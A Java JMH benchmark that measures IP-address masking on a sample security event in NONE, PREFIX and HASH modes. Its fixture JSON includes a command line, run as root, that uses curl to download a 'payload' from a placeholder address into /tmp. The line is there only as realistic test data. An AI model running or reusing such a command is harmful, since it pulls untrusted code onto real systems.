package io.vigil.bench.settings;

import io.vigil.hub.settings.IpMasker;
import io.vigil.hub.settings.IpMasking;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/**
 * What IP masking costs the pipeline: one {@code SecurityIoTRawEvent} row's {@code EventDetails} (a
 * network connection: two addresses, one more in the command line, seven other fields) masked per
 * operation, in each mode ({@code NONE} is the cost when masking is off).
 */
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@State(Scope.Thread)
@Fork(1)
@Warmup(iterations = 2, time = 2)
@Measurement(iterations = 3, time = 2)
public class IpMaskBenchmark {
  private static final String DETAILS = "{\"RemoteAddress\":\"203.0.113.7\",\"RemotePort\":\"443\",\"LocalAddress\":\"10.0.0.5\","
      + "\"LocalPort\":\"51000\",\"Direction\":\"Out\",\"Protocol\":\"TCP\",\"ProcessId\":42,\"UserId\":\"0\","
      + "\"Executable\":\"/usr/bin/curl\",\"CommandLine\":\"curl -s https://203.0.113.7/payload -o /tmp/x\"}";

  @Param({"NONE", "PREFIX", "HASH"})
  public String mode;

  private IpMasker masker;

  @Setup
  public void setUp() {
    masker = IpMasker.of(new IpMasking(IpMasking.Mode.valueOf(mode), 24, 48), new byte[32]);
  }

  @Benchmark
  public String maskEventDetails() {
    return masker.json(DETAILS);
  }
}
